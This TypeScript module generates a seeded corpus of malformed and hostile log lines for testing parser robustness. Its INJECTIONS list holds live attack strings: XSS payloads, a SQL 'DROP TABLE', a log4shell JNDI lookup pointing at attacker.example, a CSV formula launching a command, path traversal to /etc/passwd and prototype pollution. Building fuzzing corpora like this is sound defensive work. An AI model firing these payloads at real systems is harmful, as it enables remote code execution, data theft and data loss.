import { OptionError } from "../errors";
import { RandomState } from "../random";
import { checkOptions, type OptionKeys } from "../options";

/** Every option name of {@link HostileLinesOptions} (unknown names fail with a suggestion). */
const HOSTILE_LINES_OPTIONS_KEYS: OptionKeys<HostileLinesOptions> = { count: true, seed: true, longLength: true };

export interface HostileLinesOptions {
  /** Number of lines. Default: 1000. */
  readonly count?: number;
  /** Seed of the generator. Default: 0. */
  readonly seed?: number;
  /** Length of the over-long lines. Default: 100000. */
  readonly longLength?: number;
}

/** Well-formed lines of every format, which the generator truncates, corrupts and injects into. */
const VALID = [
  "Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for root from 173.234.31.186 port 38926 ssh2",
  "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
  "<38>1 2024-01-02T03:04:05.123Z web01 sshd 4123 - [meta sequenceId=\"1\"] Accepted password for bob from 10.0.0.1 port 5122 ssh2",
  '203.0.113.9 - - [10/Oct/2024:13:55:36 -0700] "GET /index.html HTTP/1.1" 200 2326 "https://example.org/" "Mozilla/5.0"',
  "[Sun Dec 04 04:47:44 2005] [error] [client 222.166.160.184] Directory index forbidden by rule: /var/www/html/",
  '{"@timestamp":"2024-01-02T03:04:05Z","event":{"action":"user-login","outcome":"failure"},"source":{"ip":"1.2.3.4"},"user":{"name":"eve"}}',
  "2025-03-06 08:00:00, INFO, User login success, user: admin",
  "2024-01-02T03:04:05Z,alice,1.2.3.4,login_failed",
];

const INJECTIONS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "'; DROP TABLE events; --",
  "${jndi:ldap://attacker.example/a}",
  "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
  "%s%s%s%n%n",
  "../../../../etc/passwd",
  "{{7*7}}",
  "=cmd|' /C calc'!A0",
  "\"},{\"__proto__\":{\"polluted\":1}}",
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  "\u202eexe.txt",
  "\u0000\u0000NUL",
  "\ud800 lone surrogate \udfff",
  "a\rb\u2028c\u2029d",
  "\\\"\\\\\\]",
  "][\"\"]",
  "javascript:alert(1)",
];

/**
 * A seeded corpus of hostile log lines for robustness tests and demos: well-formed lines of every
 * format cut short, with bytes flipped to junk or control characters, random binary, over-long lines,
 * injection strings (HTML/JS, SQL, log4shell, terminal escapes, CSV formulas, prototype pollution),
 * deep JSON nesting, and valid lines whose user or path carries an injection.
 *
 * @example
 * hostileLines({ count: 5, seed: 1 }).length // 5
 */
export function hostileLines(options: HostileLinesOptions = {}): string[] {
  checkOptions(options, HOSTILE_LINES_OPTIONS_KEYS, "hostileLines");
  const count = options.count ?? 1000;
  if (!Number.isInteger(count) || count < 0) throw new OptionError(`Expected \`count\` to be a non-negative integer, got ${String(count)}`);
  const longLength = options.longLength ?? 100000;
  const rng = new RandomState(options.seed ?? 0);
  const pick = <T>(xs: readonly T[]): T => xs[rng.randint(0, xs.length)];
  const junk = (n: number): string => {
    let s = "";
    for (let i = 0; i < n; i++) s += String.fromCharCode(rng.randint(0, 256));
    return s;
  };
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const base = pick(VALID);
    const kind = i % 10;
    let line: string;
    switch (kind) {
      case 0: // truncated
        line = base.slice(0, rng.randint(0, base.length));
        break;
      case 1: {
        // bytes flipped
        const chars = base.split("");
        for (let k = 0; k < 3; k++) chars[rng.randint(0, chars.length)] = String.fromCharCode(rng.randint(0, 256));
        line = chars.join("");
        break;
      }
      case 2: // binary
        line = junk(rng.randint(1, 200));
        break;
      case 3: // over-long
        line = i % 20 === 3 ? base + "A".repeat(longLength) : pick(INJECTIONS).repeat(Math.ceil(longLength / 20));
        break;
      case 4: // injection alone
        line = pick(INJECTIONS);
        break;
      case 5: // injection spliced into a valid line
      case 6: {
        const at = rng.randint(0, base.length);
        line = base.slice(0, at) + pick(INJECTIONS) + base.slice(at);
        break;
      }
      case 7: // valid shape, hostile user / path
        line = pick([
          `Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for invalid user ${pick(INJECTIONS)} from 10.0.0.${rng.randint(1, 255)} port 22 ssh2`,
          `203.0.113.9 - - [10/Oct/2024:13:55:36 -0700] "GET /${encodeURIComponent(pick(INJECTIONS).replace(/[\ud800-\udfff]/g, "?"))} HTTP/1.1" 404 0 "-" "${pick(INJECTIONS).replace(/"/g, "")}"`,
          JSON.stringify({ "@timestamp": "2024-01-02T03:04:05Z", user: { name: pick(INJECTIONS) }, message: pick(INJECTIONS) }),
        ]);
        break;
      case 8: // structural nonsense
        line = pick([
          "[".repeat(rng.randint(1, 50000)),
          "{".repeat(rng.randint(1, 5000)) + "}".repeat(rng.randint(1, 5000)),
          '"'.repeat(rng.randint(1, 100)),
          ",".repeat(rng.randint(1, 1000)),
          "<" + "9".repeat(rng.randint(1, 40)) + ">1 - - - - - -",
          "Feb 30 25:61:61 host sshd[1]: x",
          "[Sun Feb 31 04:47:44 2005] [notice] impossible date",
          '1.2.3.4 - - [99/Foo/2024:99:99:99 +9999] "GET / HTTP/1.1" 999 -1',
          "   \t   ",
          "",
        ]);
        break;
      default: // several valid lines glued together
        line = base + " " + pick(VALID) + "\t" + pick(VALID);
    }
    // The corpus is one line per element: strip line breaks so element count = line count.
    out.push(line.replace(/\n/g, "\\n"));
  }
  return out;
}
